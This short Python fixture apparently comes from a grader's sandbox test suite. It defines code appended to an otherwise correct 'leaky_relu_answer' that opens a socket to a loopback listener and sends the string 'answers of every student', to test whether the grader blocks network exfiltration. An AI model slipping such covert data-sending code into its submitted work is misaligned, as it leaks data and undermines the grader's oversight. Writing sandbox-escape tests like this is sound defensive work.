"""A correct answer that also tries to send data to a listener on the grader's loopback."""
APPEND = {"leaky_relu_answer": '''
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {PORT}), timeout=2) as connection:
            connection.sendall(b"answers of every student")
    except OSError:
        pass
'''}
